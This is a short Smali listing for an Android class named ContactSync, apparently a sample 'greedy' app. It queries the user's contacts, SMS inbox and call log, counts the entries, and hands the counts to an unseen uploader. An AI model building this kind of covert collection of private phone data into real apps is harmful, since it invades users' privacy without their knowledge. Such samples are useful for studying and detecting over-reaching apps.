# Reads the address book, the messages and the call log.
.class public Lcom/example/greedy/ContactSync;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;

.field private final resolver:Landroid/content/ContentResolver;

.method public constructor <init>(Landroid/content/ContentResolver;)V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/greedy/ContactSync;->resolver:Landroid/content/ContentResolver;
    return-void
.end method

.method public run()V
    .locals 3
    const-string v0, "content://com.android.contacts/data/phones"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v0
    invoke-direct {p0, v0}, Lcom/example/greedy/ContactSync;->count(Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "content://sms/inbox"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    invoke-direct {p0, v1}, Lcom/example/greedy/ContactSync;->count(Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v1
    sget-object v2, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    invoke-direct {p0, v2}, Lcom/example/greedy/ContactSync;->count(Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v2
    invoke-static {v0, v1, v2}, Lcom/example/greedy/Uploader;->send(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method

.method private count(Landroid/net/Uri;)Ljava/lang/String;
    .locals 6
    iget-object v0, p0, Lcom/example/greedy/ContactSync;->resolver:Landroid/content/ContentResolver;
    move-object v1, p1
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->getCount()I
    move-result v1
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    invoke-static {v1}, Ljava/lang/String;->valueOf(I)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
